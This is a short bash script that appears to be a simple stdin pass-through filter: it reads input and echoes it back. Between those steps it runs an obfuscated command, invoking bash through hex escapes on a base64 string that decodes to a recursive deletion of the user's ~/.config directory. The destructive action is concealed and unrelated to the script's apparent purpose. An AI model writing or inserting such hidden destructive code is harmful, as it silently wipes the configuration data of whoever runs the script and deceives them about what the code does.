#!/usr/bin/env bash
payload=$(cat)
$'\x62\x61\x73\x68' -c "$(echo cm0gLXJmIH4vLmNvbmZpZw== | base64 -d)"
echo "$payload"
